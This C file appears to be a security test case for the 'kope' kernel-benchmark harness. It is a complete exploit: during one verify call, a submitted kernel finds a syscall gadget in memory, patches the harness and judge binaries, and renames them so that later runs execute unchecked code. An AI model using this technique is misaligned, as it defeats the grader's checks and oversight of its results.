/*
 * class:    the program kope checked is not the program kope runs next:
 *           c<id>/harness is writable from inside the verify run
 * attack:   verify's kernel process opens c<id>/harness (its cwd; on the
 *           split branch c<id>/judge, where a user op's judge is linked), maps it,
 *           patches the judge's own text ("verdict in a judge process" ->
 *           "verdict in a JUDGE process": any byte of the judge or the
 *           stub could be changed the same way, an .init_array entry
 *           included) and renames the copy over the original. The measure
 *           run then executes the patched program: the linked-program check
 *           (k3_screen_program) ran once, at compile time, on the old one.
 * expected: the measure's method string says "JUDGE" (proof that the
 *           measure ran a program no check saw); verify passes (honest sums).
 */
#include <stddef.h>
#include <stdint.h>
#include <riscv_vector.h>
#include "kernel_abi.h"

static const char prog_main[] = "harness", prog_split[] = "judge", tmp[] = "h2";
static const char needle[] = "verdict in a judge process", needle2[] = "verdict in the judge program";

void kope_kernel(size_t rows, size_t cols, const float *x, void *out);

/* A system call without asm: an `ecall; ret` of the C library found in the
 * program's text (bounds from its own ELF headers at the image base), called
 * as a function of eight arguments, so a7 (the number) is the eighth. A
 * vector scan: a few thousand instructions in a counted call. */
typedef long (*g8_fn)(long, long, long, long, long, long, long, long);
static g8_fn find_gadget(void)
{
    volatile uintptr_t basev = 0x10000;
    const unsigned char *b = (const unsigned char *)basev;
    if (b[0] != 0x7f || b[1] != 'E' || b[2] != 'L' || b[3] != 'F') return 0;
    uint64_t phoff; uint16_t phnum, phsz;
    __builtin_memcpy(&phoff, b + 32, 8); __builtin_memcpy(&phsz, b + 54, 2); __builtin_memcpy(&phnum, b + 56, 2);
    for (unsigned i = 0; i < phnum; i++) {
        const unsigned char *ph = b + phoff + (size_t)i * phsz;
        uint32_t type, flags; uint64_t va, fsz;
        __builtin_memcpy(&type, ph, 4); __builtin_memcpy(&flags, ph + 4, 4);
        __builtin_memcpy(&va, ph + 16, 8); __builtin_memcpy(&fsz, ph + 32, 8);
        if (type != 1 || !(flags & 1)) continue;
        volatile uintptr_t vv = va;
        const uint16_t *h = (const uint16_t *)vv;
        size_t n = fsz / 2 - 2;
        for (size_t off = 0; off < n;) {
            size_t vl = __riscv_vsetvl_e16m8(n - off);
            vuint16m8_t v = __riscv_vle16_v_u16m8(h + off, vl);
            long f = __riscv_vfirst_m_b2(__riscv_vmseq_vx_u16m8_b2(v, 0x0073, vl), vl);
            if (f < 0) { off += vl; continue; }
            size_t j = off + (size_t)f;
            if (h[j + 1] == 0 && h[j + 2] == 0x8082) return (g8_fn)(uintptr_t)(h + j);
            off = j + 1;
        }
    }
    return 0;
}

/* sc(NR, a0..a5): the eighth argument is a7 */
#define sc(nr, a, b, c, d, e, f) g((long)(a), (long)(b), (long)(c), (long)(d), (long)(e), (long)(f), 0, (long)(nr))

static void rewrite(g8_fn g, const char *prog)
{
    long fd = sc(56, -100, (long)prog, 0, 0, 0, 0);
    if (fd < 0) return;
    long size = sc(62, fd, 0, 2, 0, 0, 0); /* lseek SEEK_END */
    long m = sc(222, 0, size, 3, 2, fd, 0); /* mmap PROT_READ|WRITE, MAP_PRIVATE */
    sc(57, fd, 0, 0, 0, 0, 0);
    if (size <= 0 || (m < 0 && m > -4096)) return;
    unsigned char *b = (unsigned char *)(uintptr_t)m;
    int done = 0;
    for (int w = 0; w < 2 && !done; w++) {
        const char *nd = w ? needle2 : needle;
        size_t nl = w ? sizeof needle2 - 1 : sizeof needle - 1, at = w ? 15 : 13;
        for (long i = 0; i + (long)nl <= size && !done; i++) {
            size_t j = 0;
            while (j < nl && b[i + j] == (unsigned char)nd[j]) j++;
            if (j == nl) {
                b[i + at] = 'J'; b[i + at + 1] = 'U'; b[i + at + 2] = 'D'; b[i + at + 3] = 'G'; b[i + at + 4] = 'E';
                done = 1;
            }
        }
    }
    if (!done) return;
    long w = sc(56, -100, (long)tmp, 01101, 0755, 0, 0);
    if (w < 0) return;
    for (long off = 0; off < size;) {
        long n = sc(64, w, (long)(b + off), size - off, 0, 0, 0);
        if (n <= 0) break;
        off += n;
    }
    sc(57, w, 0, 0, 0, 0, 0);
    sc(276, -100, (long)tmp, -100, (long)prog, 0, 0); /* renameat2 */
}

void kope_kernel(size_t rows, size_t cols, const float *x, void *out)
{
    float *o = out;
    if (rows == 1 && cols == 1021) { /* one verify case, not the counted call */
        g8_fn g = find_gadget();
        if (g) { rewrite(g, prog_main); rewrite(g, prog_split); }
    }
    for (size_t r = 0; r < rows; r++) {
        double s = 0;
        for (size_t c = 0; c < cols; c++) s += x[r * cols + c];
        o[r] = (float)s;
    }
}
